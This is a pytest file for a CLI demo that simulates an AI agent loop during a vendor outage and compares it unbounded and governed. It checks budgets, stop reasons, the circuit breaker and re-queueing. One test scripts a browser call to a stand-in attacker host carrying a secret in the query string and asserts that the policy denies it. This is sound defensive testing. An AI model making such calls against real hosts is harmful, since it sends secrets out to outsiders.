"""``corral demo``: the browser-outage incident, unbounded and governed, on a virtual clock."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import uuid
from typing import Any

import pytest
from rich.console import Console

import corral
from corral.cli.demo import demo_command
from corral.sim import sides as loops
from corral.sim.agent import BROWSER, decide
from corral.sim.demo import render, simulate
from corral.sim.world import Scenario, make_tasks
from corral.stores.base import BreakerState
from corral.testing import ScriptedModel, call, final

BOUNDED_REASONS = {
    "ok",
    "tool_error",
    "max_seconds",
    "max_tool_calls",
    "max_steps",
    "dependency_degraded",
    "loop_detected",
}


def fresh_url() -> str:
    return f"memory://test-demo-{uuid.uuid4().hex}"


def figures_without_store(figures: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in figures.items() if k != "store"}


@pytest.fixture(scope="module")
def default_figures() -> dict[str, Any]:
    """The figures `corral demo --json` prints with every option at its default."""
    done = subprocess.run(
        [sys.executable, "-m", "corral", "demo", "--json"],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    figures: dict[str, Any] = json.loads(done.stdout)
    return figures


@pytest.fixture(scope="module")
def outage_day() -> dict[str, Any]:
    """The figures of 60 tickets on the day of the outage, every vendor call in it failing
    (seed 7), in a fresh store."""
    return simulate(seed=7, runs=60, failure_rate=1.0, db=None)


def test_cli_json_prints_only_the_figures(default_figures: dict[str, Any]) -> None:
    """`corral demo --json` prints one JSON object carrying every documented key."""
    for key in ("seed", "runs", "failure_rate", "store"):
        assert key in default_figures
    for key in ("tool_calls", "browser_calls", "usd", "tasks_answered", "simulated_seconds"):
        assert key in default_figures["unbounded"]
    for key in (
        "tool_calls",
        "browser_calls",
        "usd",
        "tasks_answered",
        "stop_reasons",
        "max_tool_calls_in_a_run",
    ):
        assert key in default_figures["governed"]
    assert default_figures["store"].startswith("memory://demo-")
    assert (default_figures["seed"], default_figures["runs"]) == (7, 200)


def test_defaults_reproduce_the_incident(default_figures: dict[str, Any]) -> None:
    """With the defaults the unbounded loop lands near ~1,800 browser calls and ~$1,300."""
    u, g = default_figures["unbounded"], default_figures["governed"]
    assert 1_700 <= u["browser_calls"] <= 2_000
    assert 1_200 <= u["usd"] <= 1_400
    assert u["tool_usd"] > 0.9 * u["usd"]  # mostly tool cost
    assert not u["safety_cap_hit"]
    assert u["tasks_answered"] == 200
    assert g["browser_calls"] < u["browser_calls"] / 2
    assert g["usd"] < u["usd"] / 2
    assert g["max_tool_calls_in_a_run"] <= 15


def test_governed_tool_calls_equal_the_store_records() -> None:
    """The governed figures are the sums of the run records in the store."""
    url = fresh_url()
    figures = simulate(seed=3, runs=40, failure_rate=1.0, db=url)
    records = corral.open_store(url).list_runs(limit=10_000, tenant="demo")
    g = figures["governed"]
    assert len(records) == g["runs"] > 40  # re-queued tickets ran again
    assert g["tool_calls"] == sum(r.usage["tool_calls"] for r in records)
    assert g["browser_calls"] == sum(r.usage["tool_calls_by_tool"].get(BROWSER, 0) for r in records)
    assert g["tasks_answered"] == sum(r.status == "ok" for r in records) == 40
    assert sum(g["stop_reasons"].values()) == g["runs"]
    assert all(r.agent == "browser-agent" for r in records)


@pytest.mark.parametrize("failure_rate", [1.0, 0.6, 0.3])
def test_every_governed_run_stays_within_its_budgets(failure_rate: float) -> None:
    """No governed run passes 15 tool calls, 30 steps or 90 s, and each has a stop reason."""
    url = fresh_url()
    figures = simulate(seed=11, runs=60, failure_rate=failure_rate, db=url)
    records = corral.open_store(url).list_runs(limit=10_000, tenant="demo")
    assert len(records) == figures["governed"]["runs"] >= 60
    for r in records:
        assert r.usage["tool_calls"] <= 15
        assert r.usage["steps"] <= 30
        assert r.usage["active_seconds"] <= 90.0 + 0.1
        assert r.stop_reason in BOUNDED_REASONS


def test_a_run_out_of_time_stops_at_max_seconds() -> None:
    """When retries use up the run's time it stops with max_seconds at 90 s, not later."""
    timed_out = []
    for seed in range(1, 6):
        url = fresh_url()
        simulate(seed=seed, runs=60, failure_rate=0.5, db=url)
        records = corral.open_store(url).list_runs(limit=10_000, tenant="demo")
        timed_out = [r for r in records if r.stop_reason == "max_seconds"]
        if timed_out:
            break
    assert timed_out
    for r in timed_out:
        assert 89.9 <= r.usage["active_seconds"] <= 90.1


def test_the_vendor_saw_exactly_the_calls_the_store_recorded() -> None:
    """Every browser attempt the vendor received is a tool call charged in the store."""
    scenario = Scenario()
    tasks = make_tasks(seed=5, runs=40, scenario=scenario)
    store = corral.open_store(fresh_url())
    side = loops.run_governed(tasks, scenario=scenario, failure_rate=0.7, seed=5, store=store)
    assert side.vendor_calls == side.browser_calls > 0


def test_figures_move_with_seed_runs_and_failure_rate() -> None:
    """Changing the seed, the number of tasks or the failure rate changes the figures."""

    def sides(**kw: Any) -> tuple[Any, Any]:
        args: dict[str, Any] = {"seed": 1, "runs": 40, "failure_rate": 1.0, "db": None} | kw
        f = simulate(**args)
        return f["unbounded"], f["governed"]

    base = sides()
    assert sides(seed=2) != base
    assert sides(runs=41) != base
    half = sides(failure_rate=0.5)
    assert half != base
    assert half[0]["tool_calls"] != base[0]["tool_calls"]


def test_same_seed_gives_identical_output() -> None:
    """Two runs with the same options give the same figures and the same table."""
    first = simulate(seed=4, runs=30, failure_rate=0.6, db=None)
    second = simulate(seed=4, runs=30, failure_rate=0.6, db=None)
    assert first["store"] != second["store"]  # each call has a store of its own
    assert figures_without_store(first) == figures_without_store(second)

    def table(figures: dict[str, Any]) -> str:
        out = io.StringIO()
        render(figures, Console(file=out, width=120))
        return out.getvalue()

    assert table(first) == table(second)


def test_failure_rate_zero_means_nothing_fails() -> None:
    """With no failures both sides answer every task with the same browser calls."""
    figures = simulate(seed=2, runs=40, failure_rate=0.0, db=None)
    u, g = figures["unbounded"], figures["governed"]
    assert u["tasks_answered"] == g["tasks_answered"] == 40
    assert g["stop_reasons"] == {"ok": 40}
    assert u["browser_calls"] == g["browser_calls"]
    assert u["tool_usd"] == g["tool_usd"]
    assert u["max_tool_calls_in_a_run"] <= 5


def test_governed_runs_stop_with_a_reason_during_the_outage(
    outage_day: dict[str, Any],
) -> None:
    """During the outage a governed run ends with a stop reason after bounded retries."""
    figures = outage_day
    g = figures["governed"]
    stopped = {k: v for k, v in g["stop_reasons"].items() if k != "ok"}
    assert stopped
    assert set(stopped) <= BOUNDED_REASONS
    assert g["runs"] == g["stop_reasons"]["ok"] + sum(stopped.values())
    assert figures["unbounded"]["max_tool_calls_in_a_run"] > 100


def test_every_ticket_is_answered_in_the_end_with_a_tenth_of_the_calls_into_the_outage(
    default_figures: dict[str, Any],
) -> None:
    """With the defaults the governed side answers all 200 tickets, re-queueing those that
    met a retryable stop, with at most a tenth of the unbounded loop's calls into the
    failing vendor and well under half its spend."""
    u, g = default_figures["unbounded"], default_figures["governed"]
    assert g["tasks_answered"] == u["tasks_answered"] == 200
    assert g["tickets_requeued"] > 0 and g["answered_first_try"] < 200
    assert g["tickets_given_up"] == 0
    assert 10 * g["browser_calls_in_outage"] <= u["browser_calls_in_outage"]
    assert 2.5 * g["usd"] <= u["usd"]
    assert g["outage_tickets_answered_by"] is not None


def test_a_requeued_ticket_waits_for_its_retry_after_and_is_bounded(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Re-queued tickets run again only after their stop's ``retry_after``, at most
    ``MAX_ATTEMPTS`` runs each; then they are given up, unanswered."""
    scenario = Scenario()
    tasks = make_tasks(seed=7, runs=60, scenario=scenario)
    store = corral.open_store(fresh_url())
    monkeypatch.setattr(loops, "MAX_ATTEMPTS", 2)
    side = loops.run_governed(
        tasks, scenario=scenario, failure_rate=1.0, seed=7, store=store, run_prefix="bounded"
    )
    assert side.tickets_given_up > 0
    assert side.attempts <= 2 * len(tasks)
    assert side.tasks_answered + side.tickets_given_up == len(tasks)
    reruns = [r for r in store.list_runs(limit=10_000) if r.id.endswith("-r1")]
    assert reruns and not any(r.id.endswith("-r2") for r in store.list_runs(limit=10_000))
    # The breaker's cool-down (15 min) passes between a degraded run and its re-run.
    by_id = {r.id: r for r in store.list_runs(limit=10_000)}
    for rerun in reruns:
        first = by_id[rerun.id.removesuffix("-r1")]
        if first.stop_reason == "dependency_degraded":
            assert (first.stop or {}).get("retry_after", 0) > 0


def test_without_requeueing_the_tickets_stopped_stay_unanswered() -> None:
    """``requeue=False`` is the plain one-run-per-ticket day: stopped tickets stay unanswered."""
    scenario = Scenario()
    tasks = make_tasks(seed=7, runs=60, scenario=scenario)
    side = loops.run_governed(
        tasks,
        scenario=scenario,
        failure_rate=1.0,
        seed=7,
        store=corral.open_store(fresh_url()),
        requeue=False,
    )
    assert side.attempts == 60 and side.tickets_requeued == 0
    assert side.tasks_answered + side.tickets_given_up == 60 and side.tickets_given_up > 0


def test_the_figures_do_not_depend_on_what_the_store_already_holds(tmp_path: Any) -> None:
    """Demos run again and again against one store, with breaker state of the same tool and
    model names left open in it, give identical figures."""
    url = f"sqlite:///{tmp_path / 'shared.db'}"
    first = simulate(seed=7, runs=40, failure_rate=1.0, db=url)
    store = corral.open_store(url)
    far = 10.0**12
    for name in (BROWSER, "model:sim-agent-model", "portal.vendor.example"):
        store.set_breaker(name, BreakerState(state="open", until=far))
    again = [simulate(seed=7, runs=40, failure_rate=1.0, db=url) for _ in range(2)]
    for figures in again:
        assert figures_without_store(figures) == figures_without_store(first)


def test_the_unbounded_loop_ends_at_the_safety_cap(monkeypatch: pytest.MonkeyPatch) -> None:
    """A combination that would run for ever is cut by the simulation's cap, which says so."""
    monkeypatch.setattr(loops, "SAFETY_CAP_TOOL_CALLS", 50)
    figures = simulate(seed=7, runs=10, failure_rate=1.0, db=None)
    u = figures["unbounded"]
    assert u["safety_cap_hit"]
    assert u["tool_calls"] == 50
    out = io.StringIO()
    render(figures, Console(file=out, width=120))
    assert "safety cap" in out.getvalue()


def test_invalid_options_exit_2(capsys: pytest.CaptureFixture[str]) -> None:
    """Out-of-range options and unknown store URLs exit 2 with one line per problem."""
    assert demo_command(seed=1, runs=0, failure_rate=1.5, db=None, as_json=False) == 2
    err = capsys.readouterr().err.splitlines()
    assert err == [
        "corral demo: --runs: must be between 1 and 10,000, got 0",
        "corral demo: --failure-rate: must be between 0 and 1, got 1.5",
    ]
    assert demo_command(seed=1, runs=5, failure_rate=1.0, db="nosuch://x", as_json=True) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.startswith("corral demo: --db: ")


def test_table_shows_both_sides_and_the_reasons(capsys: pytest.CaptureFixture[str]) -> None:
    """The text output is the side-by-side table and what bounded each side."""
    assert demo_command(seed=7, runs=30, failure_rate=1.0, db=None, as_json=False) == 0
    out = capsys.readouterr().out
    for text in ("unbounded loop", "inside corral", "browser calls", "stop reasons", "Governed:"):
        assert text in out


def test_the_agent_re_browses_after_a_failure() -> None:
    """After a failed page the agent starts its pages over, as autonomous agents do."""
    task = "Ticket 9: where is it? answer: https://p.vendor.example/1 https://p.vendor.example/2"
    messages: list[dict[str, Any]] = [
        {"role": "system", "content": "..."},
        {"role": "user", "content": task},
        {"role": "tool", "name": "kb.read", "content": "no notes"},
        {"role": "tool", "name": BROWSER, "content": "page 1"},
    ]
    assert decide(messages).arguments == {"url": "https://p.vendor.example/2"}
    messages.append({"role": "tool", "name": BROWSER, "content": "ERROR: 502"})
    assert decide(messages).arguments == {"url": "https://p.vendor.example/1"}
    messages += [
        {"role": "tool", "name": BROWSER, "content": "page 1"},
        {"role": "tool", "name": BROWSER, "content": "page 2"},
    ]
    assert decide(messages).tool is None


def test_governed_policy_is_the_reference_plus_the_browser() -> None:
    """The governed policy keeps the reference budgets and denies URLs off the vendor's hosts."""
    policy = loops.governed_policy()
    assert policy.tools.allow == ["search.read", "kb.read", "http.get", BROWSER]
    assert policy.writes.require_approval
    b = policy.budgets
    assert (b.max_steps, b.max_seconds, b.max_tool_calls) == (30, 90, 15)

    @corral.tool(name=BROWSER, effect="read")
    def browser_open(url: str) -> str:
        return "opened"

    model = ScriptedModel([call(BROWSER, url="https://attacker.example/?q=secret"), final("x")])
    result = corral.run("x", model=model, tools=[browser_open], policy=policy, store=fresh_url())
    assert result.stop_reason == "tool_denied"
    assert result.usage.tool_calls == 0


def test_the_breaker_saves_browser_calls_during_the_outage(outage_day: dict[str, Any]) -> None:
    """With degrade mode the governed side calls the vendor far less during the outage."""
    g, nb = outage_day["governed"], outage_day["governed_without_breaker"]
    assert g["stop_reasons"].get("dependency_degraded", 0) > 0
    assert g["browser_calls_in_outage"] < nb["browser_calls_in_outage"]
    assert g["usd"] < nb["usd"]
